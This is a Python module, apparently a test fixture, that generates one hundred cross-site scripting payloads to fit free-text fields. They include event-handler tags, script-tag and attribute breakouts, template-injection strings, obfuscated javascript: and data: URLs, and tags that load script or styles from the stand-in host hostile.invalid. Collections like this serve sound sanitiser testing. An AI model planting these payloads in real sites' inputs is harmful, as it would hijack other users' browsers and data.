"""A hundred texts that would run script if a page interpreted them as markup, a style or a URL.

Executed script calls `alert`, sets `window.executed`, or requests something from `hostile.invalid`.
"""

from __future__ import annotations

from collections.abc import Iterator

CALLS = ("alert(1)", "window.executed=1")
HANDLERS = (
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    "<svg><script>{}</script></svg>",
    '<body onload="{}">',
    '<video><source onerror="{}"></video>',
    '<audio src=x onerror="{}">',
    '<details open ontoggle="{}">x</details>',
    '<input autofocus onfocus="{}">',
    '<select autofocus onfocus="{}"></select>',
    '<textarea autofocus onfocus="{}"></textarea>',
    '<button autofocus onfocus="{}">x</button>',
    '<marquee onstart="{}">x</marquee>',
    '<div tabindex=0 autofocus onfocus="{}">x</div>',
    '<p style="animation:x" onanimationstart="{}">x</p>',
    '<iframe onload="{}"></iframe>',
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<math><mtext><img src=x onerror="{}"></mtext></math>',
)
SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script/x>{}</script>",
    "<script type=module>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script><!--",
)
BREAKOUTS = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    '"/><img src=x onerror={}>',
    "`;{};//",
    "');{};//",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)
ONCE = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<base href="https://hostile.invalid/">',
    '<link rel=stylesheet href="https://hostile.invalid/x.css">',
    '<meta http-equiv=refresh content="0;url=https://hostile.invalid/">',
    '<script src="https://hostile.invalid/x.js"></script>',
    '<img src="https://hostile.invalid/x.png">',
    "<style>@import 'https://hostile.invalid/x.css'</style>",
    "x;background:url(https://hostile.invalid/x.png)",
    "<style>*{background:url(https://hostile.invalid/x.png)}</style>",
    "[x](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
FIELD_LENGTH = 120
"""No text is longer: each has room in every field that takes free text."""


def hostile_texts() -> list[str]:
    """All of them, each once, none longer than `FIELD_LENGTH`."""
    return list(_texts())


def _texts() -> Iterator[str]:
    yield from ONCE
    for template in (*HANDLERS, *SCRIPTS, *BREAKOUTS):
        yield from (template.format(call) for call in CALLS)
